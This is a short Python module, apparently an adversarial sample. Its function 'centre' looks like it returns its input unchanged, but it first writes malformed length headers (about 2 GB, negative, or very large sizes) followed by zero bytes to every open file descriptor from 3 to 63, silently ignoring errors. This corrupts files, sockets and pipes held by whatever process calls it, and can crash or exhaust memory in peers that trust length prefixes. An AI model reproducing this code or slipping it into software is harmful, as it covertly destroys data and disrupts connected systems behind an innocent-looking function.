"""Announces messages of sizes that none has: two gigabytes, less than nothing."""

import os
import struct


def centre(x):
    size = {7: 2**31 - 1, 2: -1, 3: -(2**31), 101: 21 * 2**20}.get(len(x), 2**30)
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("!i", size) + bytes(64))
        except OSError:
            pass
    return x
